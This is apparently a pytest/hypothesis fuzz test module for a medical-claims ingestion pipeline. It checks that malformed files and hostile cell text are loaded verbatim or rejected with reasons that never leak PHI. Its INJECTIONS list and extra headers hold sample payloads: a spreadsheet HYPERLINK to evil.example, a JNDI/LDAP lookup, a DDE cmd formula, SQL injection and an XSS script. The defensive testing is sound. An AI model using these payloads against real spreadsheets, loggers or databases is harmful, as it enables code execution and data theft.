"""Hostile input (hypothesis): random bytes, random CSV dialects and quoting, shuffled and extra
columns, huge fields, injection-looking text in every text column.

What users rely on, whatever a file holds: ingestion never raises, every row read is loaded or
quarantined with at least one reason (rows_read = loaded + quarantined), a file that is not a table
is rejected with a reason, reasons never quote a cell (cells may be PHI), and text that merely looks
hostile is data, loaded exactly as delivered.

``UNITREVIEW_FUZZ_EXAMPLES`` scales every property's example count (default 1: the counts below);
e.g. ``UNITREVIEW_FUZZ_EXAMPLES=10 pytest tests/test_fuzz_ingest.py --hypothesis-show-statistics``.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
import re
import tempfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pipelines.config import Config
from pipelines.ingest.columns import CANONICAL, REQUIRED
from pipelines.ingest.extract import DUPLICATE_KEY_IN_FILE, DUPLICATE_KEY_LOADED, ingest_file
from pipelines.ingest.headers import match_headers, normalize
from pipelines.ingest.validate import REASONS
from tests.extracts import VALID_ROW, row, write_csv
from tests.reviews import review

PROFILES = Config().header_profiles()
SCALE = max(1, int(os.environ.get("UNITREVIEW_FUZZ_EXAMPLES", "1")))


def examples(n: int):
    return settings(
        max_examples=n * SCALE,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
    )


# A marker that must never show up in a reason: every hostile cell below carries it.
MARK = "PHI-ZEBRA-000123"
INJECTIONS = [
    f'=HYPERLINK("http://evil.example/?{MARK}","click")',
    f"'; drop table claim_lines; -- {MARK}",
    f"{MARK}\x00after-nul",
    f"Robert'); DROP TABLE students;-- {MARK}",
    f"+{MARK}+1",
    f"-2+3 {MARK}",
    f"@SUM(A1) {MARK}",
    f"\u202e{MARK}\u0645\u0631\u062d\u0628\u0627",
    f"𝕳𝖊𝖑𝖑𝖔 {MARK} 👩‍⚕️ ﷽",
    f"\ufeff{MARK}",
    f"line one {MARK}\r\nline two\nline three\rline four",
    f'"{MARK}"',
    f'a "quoted" {MARK} ""double""',
    f"{MARK},with,commas;and;semicolons\tand\ttabs|and|pipes",
    f"back\\slash {MARK} \\N \\0",
    f"%s%n%x {MARK} {{0}} ${{jndi:ldap://evil/{MARK}}}",
    f"<script>alert('{MARK}')</script>",
    f"NULL {MARK}",
    f"{MARK} " + "x" * 70_000,
]
hostile = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(min_size=0, max_size=40).map(lambda t: f"{t}{MARK}{t[::-1]}"),
)
REASON_TEXTS = set(REASONS.values()) | {DUPLICATE_KEY_IN_FILE, DUPLICATE_KEY_LOADED}


def ingest(path: Path):
    result = ingest_file(path, path.name, PROFILES, None)
    check_accounting(result)
    return result


def check_accounting(result) -> None:
    """The invariants every file must keep, whatever it holds."""
    assert result.status in ("loaded", "rejected")
    assert result.rows_read == result.rows_loaded + result.rows_quarantined
    if result.status == "rejected":
        assert result.reason and result.rows_read == 0
        assert MARK not in result.reason, result.reason
    else:
        assert result.reason is None
    for reasons in result.quarantine["reasons"].to_list():
        assert reasons, "a quarantined row without a reason"
        for reason in reasons:
            assert MARK not in reason, reason
            assert reason in REASON_TEXTS or reason.startswith("fields do not match the header: "), reason
    if result.status == "loaded":
        rows = result.lines["source_row"].to_list() + result.quarantine["source_row"].to_list()
        assert len(rows) == len(set(rows)), "a source_row used twice"


@pytest.fixture(scope="module")
def scratch(tmp_path_factory) -> Path:
    """One folder for the module's examples (pytest removes it with its other temporary folders)."""
    return tmp_path_factory.mktemp("fuzz")


def fresh_dir(scratch: Path) -> Path:
    """A new folder for one example (hypothesis runs many examples per test, tmp_path is per test)."""
    return Path(tempfile.mkdtemp(prefix="example-", dir=scratch))


# ---- any bytes under any extract name -----------------------------------------------------------

SUFFIXES = [".csv", ".csv.gz", ".parquet", ".xlsx"]


@examples(150)
@given(content=st.binary(max_size=3000), suffix=st.sampled_from(SUFFIXES), gzip_it=st.booleans())
def test_any_bytes_are_loaded_quarantined_or_rejected_never_an_exception(scratch, content, suffix, gzip_it):
    path = fresh_dir(scratch) / f"random{suffix}"
    path.write_bytes(gzip.compress(content) if gzip_it and suffix == ".csv.gz" else content)
    ingest(path)


@examples(60)
@given(
    prefix=st.sampled_from([b"PAR1", b"PK\x03\x04", b"\x1f\x8b\x08\x00", b"\xef\xbb\xbf", b"\xff\xfe", b""]),
    body=st.binary(max_size=2000),
    suffix=st.sampled_from(SUFFIXES),
)
def test_bytes_that_look_like_a_format_are_still_handled(scratch, prefix, body, suffix):
    path = fresh_dir(scratch) / f"magic{suffix}"
    path.write_bytes(prefix + body)
    ingest(path)


# ---- CSV: random dialects, quoting, ragged rows, shuffled and extra columns ------------------------


def valid_cells(i: int) -> dict[str, str]:
    return {**VALID_ROW, "claim_id": f"CLM-{i}"}


@st.composite
def csv_files(draw):
    rng = random.Random(draw(st.integers(0, 2**32)))
    columns = [c for c in VALID_ROW if draw(st.booleans()) or c in REQUIRED or rng.random() < 0.5]
    extras = draw(st.lists(st.one_of(st.sampled_from(INJECTIONS[:8]), st.text(max_size=12)), max_size=3))
    header = columns + extras
    rng.shuffle(header)
    n = draw(st.integers(0, 12))
    records = []
    for i in range(1, n + 1):
        cells = valid_cells(i)
        record = [cells.get(h, "") for h in header]
        for j in range(len(record)):
            if rng.random() < 0.3:
                record[j] = draw(hostile)
        if rng.random() < 0.15:  # ragged: a field too many or too few
            record = [*record, draw(hostile)] if rng.random() < 0.5 else record[:-1]
        records.append(record)
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    quotechar = draw(st.sampled_from(['"', "'"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC, csv.QUOTE_NONE]))
    terminator = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    buffer = io.StringIO()
    writer = csv.writer(
        buffer,
        delimiter=delimiter,
        quotechar=quotechar,
        quoting=quoting,
        escapechar="\\" if quoting == csv.QUOTE_NONE else None,
        lineterminator=terminator,
    )
    writer.writerow(header)
    writer.writerows(records)
    text = buffer.getvalue()
    if draw(st.booleans()):  # a little damage: a stray quote, a cut-off end, blank lines
        damage = draw(st.sampled_from(["quote", "cut", "blank"]))
        at = draw(st.integers(0, max(0, len(text) - 1)))
        text = {"quote": text[:at] + quotechar + text[at:], "cut": text[:at], "blank": text[:at] + "\n\n" + text[at:]}[
            damage
        ]
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    return text.encode(encoding, errors="surrogatepass"), draw(st.booleans())


@examples(200)
@given(csv_files())
def test_csv_in_any_dialect_with_hostile_cells_is_accounted_for(scratch, spec):
    content, gz = spec
    try:
        content.decode("utf-8")
    except UnicodeDecodeError:
        assume(False)  # lone surrogates from st.text: not UTF-8 text at all (covered by random bytes)
    path = fresh_dir(scratch) / ("hostile.csv.gz" if gz else "hostile.csv")
    path.write_bytes(gzip.compress(content) if gz else content)
    ingest(path)


# ---- well-formed files: hostile text is data, loaded exactly as delivered --------------------------

FREE_TEXT = ["payer_name", "provider_name", "clinic_name", "note_text"]
printable = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60)


@st.composite
def hostile_tables(draw, allow_control: bool = True):
    n = draw(st.integers(1, 8))
    extras = draw(
        st.lists(
            st.sampled_from(["Referring MD", "=cmd|' /C calc'!A0", "'; drop table x", "note 2", "Ünïcödé ☃"]),
            unique=True,
            max_size=3,
        )
    )
    text = (
        hostile
        if allow_control
        else st.one_of(
            st.sampled_from(
                [s for s in INJECTIONS if not any(ord(c) < 32 for c in s.replace("\n", "").replace("\r", ""))]
            ),
            printable.map(lambda t: f"{t}{MARK}"),
        )
    )
    records = []
    for i in range(1, n + 1):
        record = {**valid_cells(i), **{c: draw(text) for c in FREE_TEXT}, **{e: draw(text) for e in extras}}
        records.append(record)
    order = draw(st.permutations(list(records[0])))
    return [{k: r[k] for k in order} for r in records]


WHITE_SPACE = re.compile(
    "^[\t\n\v\f\r \x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]+|[\t\n\v\f\r \x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]+$"
)


def expected_text(value: str | None, canonical: bool) -> str | None:
    if value is None:
        return None
    if canonical:  # the contract trims canonical text (Unicode White_Space); a blank cell is empty
        value = WHITE_SPACE.sub("", value)
        return value or None
    return value or None


def assert_loaded_verbatim(result, records) -> None:
    assert result.status == "loaded", result.reason
    assert (result.rows_read, result.rows_loaded) == (len(records), len(records)), result.quarantine[
        "reasons"
    ].to_list()
    lines = result.lines.sort("source_row")
    for column in records[0]:
        if column in FREE_TEXT or column not in CANONICAL:
            got = lines[column].to_list()
            want = [expected_text(r[column], column in CANONICAL) for r in records]
            assert got == want, column


@examples(120)
@given(hostile_tables())
def test_hostile_text_in_a_well_formed_csv_is_loaded_verbatim(scratch, records):
    path = write_csv(fresh_dir(scratch) / "hostile.csv", records)
    assert_loaded_verbatim(ingest(path), records)


@examples(80)
@given(hostile_tables())
def test_hostile_text_and_column_names_in_parquet_are_loaded_verbatim(scratch, records):
    path = fresh_dir(scratch) / "hostile.parquet"
    pl.DataFrame(records, schema=dict.fromkeys(records[0], pl.String)).write_parquet(path)
    assert_loaded_verbatim(ingest(path), records)


@examples(25)
@given(hostile_tables(allow_control=False))
def test_hostile_text_in_excel_is_loaded_verbatim(scratch, records):
    path = fresh_dir(scratch) / "hostile.xlsx"
    pl.DataFrame(records, schema=dict.fromkeys(records[0], pl.String)).write_excel(path)
    # a cell holds at most 32,767 characters: the writer cuts longer text
    records = [{k: v[:32767] for k, v in r.items()} for r in records]
    assert_loaded_verbatim(ingest(path), records)


# ---- headers -----------------------------------------------------------------------------------


header_names = st.one_of(
    st.sampled_from(
        [
            *CANONICAL,
            "CPT",
            "Date of Service",
            "",
            " ",
            "unnamed",
            "Unnamed",
            "extra_unnamed",
            "Memo",
            "memo",
            "extra_memo",
            "Source_File",
            "extra_source_file",
            "SOURCE_ROW",
        ]
    ),
    st.text(max_size=20),
)


@examples(300)
@given(st.lists(header_names, max_size=40, unique=True))  # a reader's column names are unique
def test_header_matching_never_raises_and_names_every_conflict(headers):
    match = match_headers(headers, PROFILES)
    targets = [match.renames[h] for h in headers if h in match.renames]
    assert set(match.conflicts) == {t for t in targets if targets.count(t) > 1}
    assert set(match.renames) | set(match.extras) == set(headers)
    names = [n.lower() for n in match.extras.values()]
    assert len(names) == len(set(names)), "two extra columns would get the same warehouse name"
    assert not set(names) & {c.lower() for c in CANONICAL}


@pytest.mark.parametrize("header", ["claim_id", "CLAIM_ID", "Claim ID"])
def test_a_column_named_twice_rejects_the_file_as_ambiguous(tmp_path, header):
    # the CSV reader renames a repeated header (claim_id_1): that must not hide the ambiguity
    path = tmp_path / "twice.csv"
    path.write_text(
        ",".join([*VALID_ROW, header]) + "\n" + ",".join(v.replace(",", "") for v in VALID_ROW.values()) + ",OTHER\n"
    )
    result = ingest(path)
    assert result.status == "rejected" and "several headers map to claim_id" in result.reason


def test_a_column_named_twice_in_excel_rejects_the_file_as_ambiguous(tmp_path):
    import xlsxwriter

    path = tmp_path / "twice.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    for j, value in enumerate([*VALID_ROW, "patient_id"]):
        sheet.write_string(0, j, value)
    for j, value in enumerate([*VALID_ROW.values(), "OTHER"]):
        sheet.write_string(1, j, value)
    book.close()
    result = ingest(path)
    assert result.status == "rejected" and "several headers map to patient_id" in result.reason


def test_a_repeated_extra_header_keeps_both_columns(tmp_path):
    path = write_csv(tmp_path / "extras.csv", [row()], header=None)
    text = path.read_text().splitlines()
    path.write_text(f"{text[0]},Memo,Memo\n{text[1]},first,second\n")
    result = ingest(path)
    assert result.rows_loaded == 1
    memos = sorted(c for c in result.lines.columns if normalize(c).startswith("memo"))
    assert len(memos) == 2 and sorted(result.lines.select(memos).row(0)) == ["first", "second"]


# ---- specific robustness cases found by fuzzing ------------------------------------------------------


def test_blank_lines_before_a_ragged_row_keep_every_row_accounted_for(tmp_path):
    # DuckDB numbers a rejected line counting the blank lines it skipped; the loaded rows must still
    # get row numbers of their own
    good = ",".join(v.replace(",", "") for v in VALID_ROW.values())
    path = tmp_path / "blank.csv"
    path.write_text(",".join(VALID_ROW) + "\n\n\n" + good.replace("CLM-1", "CLM-A") + "\n\n\nCLM-X,1\n" + good + "\n")
    result = ingest(path)
    assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == (3, 2, 1)
    assert result.quarantine["raw_line"].to_list() == ["CLM-X,1"]
    assert result.lines["claim_id"].to_list() == ["CLM-A", "CLM-1"]
    assert result.lines["source_row"].to_list() == sorted(result.lines["source_row"].to_list())


def test_a_quoted_field_over_several_lines_before_a_ragged_row(tmp_path):
    records = [row(claim_id="CLM-1", note_text="first line\nsecond line\nthird"), row(claim_id="CLM-2")]
    path = write_csv(tmp_path / "multiline.csv", records)
    path.write_text(path.read_text() + "CLM-X,1\n" + path.read_text().splitlines()[-1].replace("CLM-2", "CLM-3") + "\n")
    result = ingest(path)
    assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == (4, 3, 1)
    assert result.quarantine["source_row"].to_list() == [3]
    assert result.lines["source_row"].to_list() == [1, 2, 4]
    assert result.lines["note_text"][0] == "first line\nsecond line\nthird"


def test_a_huge_field_is_read_as_data_not_a_broken_file(tmp_path):
    records = [row(claim_id="CLM-1"), row(claim_id="CLM-2", note_text="n" * 3_000_000), row(claim_id="CLM-3")]
    result = ingest(write_csv(tmp_path / "huge.csv", records, header=[*VALID_ROW, "note_text"]))
    assert (result.status, result.rows_loaded) == ("loaded", 3)
    assert len(result.lines["note_text"][1]) == 3_000_000


def test_a_line_beyond_the_readers_limit_rejects_the_file_with_a_reason(tmp_path):
    from pipelines.ingest.readers import MAX_LINE_BYTES

    records = [row(claim_id="CLM-1"), row(claim_id="CLM-2", note_text=MARK + "n" * MAX_LINE_BYTES)]
    result = ingest(write_csv(tmp_path / "enormous.csv", records, header=[*VALID_ROW, "note_text"]))
    assert result.status == "rejected"
    assert "longer than" in result.reason and MARK not in result.reason


# ---- whole reviews on hostile folders ------------------------------------------------------------


@pytest.mark.slow
def test_a_review_of_a_folder_of_hostile_files_completes_and_reconciles(tmp_path):
    import duckdb

    folder = tmp_path / "in"
    folder.mkdir()
    rng = random.Random(8)
    (folder / "random.csv").write_bytes(bytes(rng.randrange(256) for _ in range(4000)))
    (folder / "random.parquet").write_bytes(b"PAR1" + bytes(rng.randrange(256) for _ in range(400)))
    (folder / "random.xlsx").write_bytes(b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(400)))
    (folder / "random.csv.gz").write_bytes(gzip.compress(bytes(rng.randrange(256) for _ in range(400))))
    hostile_rows = [
        row(
            claim_id=f"CLM-{i}",
            payer_name=INJECTIONS[i % len(INJECTIONS)],
            note_text=INJECTIONS[(i + 3) % len(INJECTIONS)],
            provider_name=INJECTIONS[(i + 5) % len(INJECTIONS)],
            clinic_name=INJECTIONS[(i + 7) % len(INJECTIONS)],
        )
        for i in range(1, 40)
    ]
    write_csv(
        folder / "hostile_text.csv", [{**r, "=cmd|' /C calc'!A0": MARK, "'; drop table x": MARK} for r in hostile_rows]
    )
    pl.DataFrame(hostile_rows[:10], schema=dict.fromkeys(hostile_rows[0], pl.String)).with_columns(
        pl.col("claim_id").str.replace("CLM", "PQ")
    ).write_parquet(folder / "hostile_text.parquet")
    ragged = write_csv(folder / "ragged.csv", [row(claim_id=f"R-{i}", patient_id=MARK) for i in range(5)])
    ragged.write_text(ragged.read_text() + f"{MARK},1\n\n\n" + "x," * 40 + "\n")

    result = review(folder, tmp_path / "w.duckdb")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output and MARK not in result.output
    with duckdb.connect(str(tmp_path / "w.duckdb"), read_only=True) as con:
        log = {
            r[0]: r[1:]
            for r in con.execute(
                "select source_file, status, rows_read, rows_loaded, rows_quarantined, reason from ingest_log"
            ).fetchall()
        }
        loaded_per_file = dict(con.execute("select source_file, count(*) from claim_lines group by 1").fetchall())
        quarantined_per_file = dict(con.execute("select source_file, count(*) from quarantine group by 1").fetchall())
        names = con.execute(
            "select payer_name from claim_lines where source_file = 'hostile_text.csv' order by source_row"
        ).fetchall()
        tables = {r[0] for r in con.execute("select table_name from information_schema.tables").fetchall()}
    assert set(log) == {p.name for p in folder.iterdir()}
    for name, (status, read, loaded, quarantined, reason) in log.items():
        assert read == loaded + quarantined
        assert loaded_per_file.get(name, 0) == loaded and quarantined_per_file.get(name, 0) == quarantined
        assert status in ("loaded", "rejected") and (status == "loaded" or reason)
        assert MARK not in (reason or "")
    assert log["hostile_text.csv"][:3] == ("loaded", 39, 39)
    assert log["hostile_text.parquet"][:3] == ("loaded", 10, 10)
    assert log["ragged.csv"][:4] == ("loaded", 7, 5, 2)
    assert [n[0] for n in names] == [r["payer_name"] for r in hostile_rows]
    assert "claim_lines" in tables and "drop table" not in " ".join(tables)


def test_extra_headers_that_differ_only_in_case_or_blankness_each_get_a_column(tmp_path):
    path = write_csv(tmp_path / "extras.csv", [row()])
    header, line = path.read_text().splitlines()
    path.write_text(f"{header},Memo,memo,unnamed,,  ,Source_File\n{line},a,b,c,d,e,f\n")
    result = ingest(path)
    assert result.rows_loaded == 1
    extras = [
        c for c in result.lines.columns if c not in CANONICAL and c not in ("source_row", "source_file", "ingested_at")
    ]
    assert len(extras) == 6 and len({c.lower() for c in extras}) == 6
    assert sorted(result.lines.select(extras).row(0)) == ["a", "b", "c", "d", "e", "f"]


@pytest.mark.slow
def test_files_whose_extra_columns_differ_only_in_case_are_reviewed_together(tmp_path):
    import duckdb

    folder = tmp_path / "in"
    folder.mkdir()
    write_csv(folder / "a.csv", [{**row(claim_id="A-1"), "Memo": "from a"}])
    write_csv(folder / "b.csv", [{**row(claim_id="B-1"), "memo": "from b"}])
    # Parquet keeps names that differ only in case, which the CSV reader would already have renamed
    pl.DataFrame([{**row(claim_id="C-1"), "Memo": "c1", "extra_Memo": "c2", "MEMO": "c3"}]).write_parquet(
        folder / "c.parquet"
    )
    result = review(folder, tmp_path / "w.duckdb")
    assert result.exit_code == 0, result.output
    with duckdb.connect(str(tmp_path / "w.duckdb"), read_only=True) as con:
        assert con.execute('select claim_id, "Memo" from claim_lines order by 1').fetchall() == [
            ("A-1", "from a"),
            ("B-1", "from b"),
            ("C-1", "c1"),
        ]
        values = con.sql("select * from claim_lines where claim_id = 'C-1'").pl().row(0, named=True)
    assert sorted(v for k, v in values.items() if "memo" in k.lower()) == ["c1", "c2", "c3"]


def test_a_csv_whose_dialect_cannot_be_recognized_is_rejected_with_a_reason_a_person_can_act_on(tmp_path):
    # mixed line endings (\r\n and \n) defeat the reader's dialect detection
    path = write_csv(tmp_path / "mixed.csv", [row(claim_id=f"C-{i}", patient_id=MARK) for i in range(5)])
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n", 3) + f"C-9,1,{MARK}\n".encode())
    result = ingest(path)
    assert result.status == "rejected"
    assert (
        result.reason
        == "cannot be read as CSV: no consistent delimiter, quoting and line ending found (are line endings mixed?)"
    )


@pytest.mark.parametrize("value", ["'PHI-ZEBRA-000123'", "'quoted, with a comma'", "O'Brien & D'Angelo"])
def test_single_quotes_in_a_small_file_are_data_not_quoting(tmp_path, value):
    # found by fuzzing: on a one-row file the dialect sniffer took '…' for quoting and dropped the quotes
    path = write_csv(tmp_path / "one.csv", [row(note_text=value)], header=[*VALID_ROW, "note_text"])
    result = ingest(path)
    assert result.rows_loaded == 1 and result.lines["note_text"].to_list() == [value]
